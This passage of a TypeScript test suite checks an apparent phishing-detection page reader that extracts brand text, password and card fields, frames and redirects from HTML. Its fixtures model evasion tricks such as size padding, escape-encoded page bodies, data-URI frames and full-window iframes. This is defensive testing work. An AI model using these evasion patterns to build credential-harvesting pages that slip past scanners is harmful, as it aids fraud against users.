    const reader = createPageReader(new URL('https://a.example/'), siteOf);
    for (let n = 0; n < 40; n++) reader.write('<p>Lorem ipsum dolor sit amet</p>'.repeat(1_600));
    reader.write('<iframe srcdoc="<input type=password>"></iframe><h1>Example Bank</h1>');
    reader.write('<meta http-equiv=refresh content="0;url=/next">');
    expect(reader.finish().brandTexts).toEqual(['Example Bank']);
    expect(reader.leads.frames[0]?.html).toBe('<input type=password>');
    expect(reader.leads.refresh?.pathname).toBe('/next');
  });

  test.each([
    '<svg><template></svg>',
    '<math><template></math>',
    '<svg hidden/>',
    '<svg hidden><p></p>',
    '<div><svg></div><style>a{content:"<!--"}</style>',
    '<h1 hidden><h2></h2>',
    '<table hidden><table></table>',
    '<dt hidden><dd></dd>',
    '<td hidden>',
    '<tr hidden>',
    '<caption hidden>',
    '<nobr hidden><nobr></nobr>',
  ])('%s ends where it ends in a browser: what follows is shown', (html) => {
    const facts = read(`${html}<p>Example text</p><iframe src=/inner></iframe><form><input type=password></form>`);
    expect(facts).toMatchObject({ asks: ['password'], textLength: 11 });
    expect(facts.text).toContain('Example text');
  });

  test.each([
    '<table hidden><tr><td><table></table></td></tr></table>',
    '<h1 hidden><span><h2></h2></span></h1>',
    '<table><tr><td hidden>a</td></tr></table>',
    '<svg hidden><g></g></svg>',
    '<div hidden><svg></svg>a</div>',
  ])('%s hides what stands in it, and no more', (html) => {
    const inside = html.replace(/(?=<\/table>$|<\/h1>$|<\/td>|<\/svg>|<\/div>)/, 'hidden words');
    expect(read(`${inside}<p>shown</p>`).textLength).toBe(5);
  });

  test('the end of a form leaves SVG open that stands in it', () => {
    expect(read('<form><svg></form><style><!--</style><input type=password>').asks).toEqual([]);
  });

  test.each([
    '<form id=f action=/take></form><input form=f type=password>',
    '<input form=f type=password><form id=f action=/take></form>',
    '<form action=/other><input form=f type=password></form><form id=f action=/take></form>',
  ])('%s: a field belongs to the form that it names', (html) => {
    const { forms } = read(html);
    expect(forms.find(({ asks }) => asks.includes('password'))?.action).toBe('https://shop.example/take');
  });

  test('a form that asks for a secret takes the place of one that asks for an address', () => {
    const facts = read(`${'<form action=/q><input type=email></form>'.repeat(60)}${LOGIN}`);
    expect(facts.forms.at(-1)?.asks).toEqual(['card', 'password']);
  });

  test('a refresh to a place in the page leads nowhere', () => {
    const reader = createPageReader(new URL('https://a.example/'), siteOf);
    reader.write('<meta http-equiv=refresh content="0;url=#top">');
    expect(reader.leads.refresh).toBeNull();
  });

  test('of two base addresses the first counts', () => {
    const facts = read(
      '<base href="https://a.example/one/"><base href="https://b.example/"><form action=x><input type=password>',
    );
    expect(facts.forms[0]?.action).toBe('https://a.example/one/x');
  });

  test('comments, white space and hidden text take nothing of the budget, and before the first field they are padding', () => {
    const login = '<form><input type=password></form>';
    const readInPieces = (html: string) => {
      const reader = createPageReader(new URL('https://a.example/'), siteOf);
      for (let at = 0; at < html.length; at += 65_536) reader.write(html.slice(at, at + 65_536));
      return reader.finish();
    };
    for (const padding of [
      `<!--${'x'.repeat(3_000_000)}-->`,
      ' '.repeat(3_000_000),
      `<div hidden>${'x'.repeat(2_000_000)}</div>`,
    ]) {
      expect(readInPieces(padding + login)).toMatchObject({ asks: ['password'] });
      expect(readInPieces(`${padding}${padding}${padding}${padding}${padding}${login}`)).toMatchObject({
        outgrown: ['bytes'],
        padded: true,
      });
    }
    const long = readInPieces(`${login}<p>${'word '.repeat(400_000)}`);
    expect(long.outgrown).toEqual(['bytes']);
    expect(long.padded).toBeUndefined();
  });

  test.each([
    ['a script', `<script>/*${'s '.repeat(600_000)}*/</script>`],
    ['a style sheet', `<style>/*${'s '.repeat(600_000)}*/</style>`],
    ['data', `<script type="application/json">"${'0'.repeat(2_000_000)}"</script>`],
    ['a picture', `<img alt="" src="data:image/gif;base64,${'A'.repeat(1_200_000)}">`],
    ['a value', `<i title="${'a '.repeat(600_000)}"></i>`],
    ['a template', `<template>${`<p>${'a'.repeat(120)}</p>`.repeat(10_000)}</template>`],
    ['an end tag with a value', `</p title="${'a '.repeat(600_000)}">`],
  ])('%s of a megabyte takes nothing of the budget', (_, padding) => {
    const login = '<p>Sign in to your account</p><form><input type=password></form>';
    const reader = createPageReader(new URL('https://a.example/'), siteOf);
    const html = padding + login;
    for (let at = 0; at < html.length; at += 65_536) reader.write(html.slice(at, at + 65_536));
    const facts = reader.finish();
    expect(facts).toMatchObject({ asks: ['password'] });
    expect(facts.text).toContain('Sign in to your account');
    expect(facts.outgrown).toBeUndefined();
  });

  test.each([
    ['white space', ' \n'.repeat(60_000)],
    ['end tags', '</x>'.repeat(50_000)],
    ['hidden choices', `<select hidden>${'<option>a'.repeat(5_000)}</select>`],
    ['hidden text', `<p style="display:none">${'old town bakery '.repeat(2_000)}</p>`],
  ])('%s leaves room for what a person reads', (_, padding) => {
    expect(read(`${padding}<h1>Sign in to your account</h1>`).text).toContain('Sign in to your account');
  });

  test.each(['<p hidden>x</p>', '<p hidden>x', '<input hidden>', '<li style="display:none">x</li>', '<a hidden>x</a>'])(
    'what stands behind %s is shown',
    (hidden) => {
      const reader = createPageReader(new URL('https://a.example/'), siteOf);
      reader.write(`<body>${hidden}<div>${'word '.repeat(600)}Sign in</div><iframe src="/login"></iframe>`);
      expect(reader.finish().text).toContain('Sign in');
      expect(reader.leads.frames).toHaveLength(1);
    },
  );

  test.each([
    ['elements', '<div hidden>a</div>'.repeat(3_000)],
    ['text', `<p hidden>${'old town bakery '.repeat(500)}</p>`],
    ['a dialog that is closed', `<dialog>${'<p>old town bakery</p>'.repeat(30_000)}</dialog>`],
  ])('hidden %s come behind what a person reads, and are no part of its length', (_, hidden) => {
    const { text, textLength, outgrown } = read(`${hidden}<h1>Example Bank</h1><input type=password>`);
    expect(text).toMatch(/^Example Bank/);
    expect(textLength).toBe('ExampleBank'.length);
    expect(outgrown).toBeUndefined();
  });

  test('a dialog that stands open is read', () => {
    expect(read('<dialog open><h1>Example Bank</h1></dialog>').textLength).toBe('ExampleBank'.length);
  });

  test.each([
    ['thousands', 5_000],
    ['a million', 1_000_000],
  ])('words around a field for a secret come before %s of letters of other text', (_, letters) => {
    const filling = 'old town bakery '.repeat(letters / 16);
    const { text } = read(`<p>${filling}</p><h3>Example Bank</h3><input type=password><p>Forgot your PIN?</p>`);
    expect(text.slice(0, 1_200)).toContain('Example Bank');
    expect(text.slice(0, 1_200)).toContain('Forgot your PIN?');
  });

  test.each(['<frameset><frame src="/in"></frameset>', '<p></p><frameset><frame src="/in"></frameset>'])(
    'frames of %s make up the page',
    (html) => {
      const reader = createPageReader(new URL('https://a.example/'), siteOf);
      reader.write(html);
      reader.finish();
      expect(reader.leads.frames.map(({ isFilling }) => isFilling)).toEqual([true]);
    },
  );

  test.each(['<hr hidden>', '<body>', 'Welcome', '<input>', '<frame src="/in">'])(
    'a frameset behind %s is none, as in a browser',
    (before) => {
      const reader = createPageReader(new URL('https://a.example/'), siteOf);
      reader.write(
        `<head><title>Owls</title></head>${before}${before === '<frame src="/in">' ? '' : '<frameset><frame src="/in"></frameset>'}`,
      );
      reader.finish();
      expect(reader.leads.frames).toEqual([]);
    },
  );

  test.each([
    ['\\x', (code: string) => `"${code}"`],
    ['\\u00', (code: string) => `"${code}"`],
    ['%u00', (code: string) => `unescape("${code}")`],
  ])('a page that is written in codes like %s takes the room of its letters', (prefix, written) => {
    const page = `<p>${'old town bakery '.repeat(6_000)}</p><input type="password">`;
    const codes = Array.from(page, (letter) => prefix + letter.charCodeAt(0).toString(16)).join('');
    const reader = createPageReader(new URL('https://a.example/'), siteOf);
    const html = `<script>document.body.innerHTML=${written(codes)}</script>`;
    for (let at = 0; at < html.length; at += 16_384) reader.write(html.slice(at, at + 16_384));
    reader.finish();
    expect(reader.unfolded?.html).toContain('<input type="password">');
  });

  test('frames that fill the window are kept whatever stands before them', () => {
    const reader = createPageReader(new URL('https://a.example/'), siteOf);
    reader.write('<iframe src="/small"></iframe>'.repeat(30));
    reader.write('<iframe src="/login" style="position:fixed;width:100%;height:100%"></iframe>');
    expect(reader.leads.frames).toHaveLength(10);
    expect(reader.leads.frames[0]?.url?.pathname).toBe('/login');
  });

  test('a frame whose address holds its page is read, however long it is', () => {
    const reader = createPageReader(new URL('https://a.example/'), siteOf);
    const html = `${'<p>text</p>'.repeat(1_000)}<input type=password>`;
    reader.write(`<iframe src=" data:text/html;base64,${btoa(html)}"></iframe>`);
    expect(reader.leads.frames[0]?.html).toBe(html);
  });

  test('the facts stay small whatever the page repeats', () => {
    const size = JSON.stringify(
      read(
        Array.from(
          { length: 5_000 },
          (_, index) =>
            `<h1>${'x'.repeat(300)}${index}</h1><img src="//h${index}.example.net/x"><form action=/${index}><input type=password></form>`,
        ).join(''),
      ),
    ).length;
    expect(size).toBeLessThan(30_000);
  });

  test('the result does not depend on how the page was cut into pieces, and no page makes the reader throw', () => {
    const piece = fc.constantFrom(
      '<form action="',
      'https://x.example.net/',
      '">',
      '<input type=password',
      '<script>',
      '</script>',
      '_0x12ab',
      '<!--',
      '-->',
      '<iframe style="display:none">',
      '<title>',
      '</title>',
      '<meta http-equiv=refresh content="0;url=',
      '<svg>',
      '</div>',
      '&#x0;',
      '\u0000',
      '<',
      '"',
      "'",
      'saved from url=(0001)',
      '<base href=',
      '<h1>',
      '&#7',
      '9;',
      '<a href="#">',
      '<b>',
      '<label for=a>',
      '</label>',
      '<input id=a name=d1>',
      '<input aria-describedby=b>',
      '<p id=b class=c>',
      'Pass<i>word</i>',
      'Never. Card number: ',
      ' \n ',
      '<bdo dir=rtl>',
      '</bdo>',
      '<style>.c:before{content:"PIN"}</style>',
      '<button>',
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof(piece, fc.string()), { maxLength: 60 }),
        fc.integer({ min: 1, max: 7 }),
        (pieces, size) => {
          const html = pieces.join('');
          const whole = read(html);
          const reader = createPageReader(new URL('https://shop.example/login'), siteOf);
          for (let at = 0; at < html.length; at += size) reader.write(html.slice(at, at + size));
          const cut = reader.finish();
          expect(cut).toEqual(whole);
        },
      ),
      { seed: 20_261_121, numRuns: 800 },
    );
  });
});
